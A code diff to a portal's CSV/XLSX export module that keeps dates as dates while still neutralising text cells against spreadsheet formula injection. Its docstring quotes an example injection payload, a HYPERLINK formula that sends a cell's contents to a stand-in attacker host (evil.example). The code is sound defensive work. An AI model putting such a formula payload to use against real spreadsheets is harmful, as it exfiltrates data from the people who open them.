@@ -4,10 +4,12 @@ Spreadsheets run a cell that starts with = + - @ (or a tab or carriage return be
 formula: an applicant who titles a project ``=HYPERLINK("https://evil.example/?leak="&C3,"…")``
 would otherwise put a live formula in the staff's copy of the ranking. Every text cell is therefore
 neutralised (OWASP's advice: a leading quote), and XLSX text cells are typed as strings, never as
-formulas. Numbers (int, float, Decimal) the portal computed itself stay numbers.
+formulas. Numbers (int, float, Decimal) the portal computed itself stay numbers, and dates stay
+dates in XLSX (a CSV writes what the caller gives, ISO text for a date).
 """
 
 import csv
+import datetime
 import io
 from decimal import Decimal
 
@@ -74,6 +76,9 @@ def write_xlsx(header, rows, *, sheet_title):
 def _set(cell, value):
     if _is_number(value):
         cell.value = value
+    elif isinstance(value, datetime.date) and not isinstance(value, datetime.datetime):
+        cell.value = value
+        cell.number_format = "yyyy-mm-dd"
     else:
         cell.value = neutralise(value)
         cell.data_type = "s"  # never "f", whatever the text
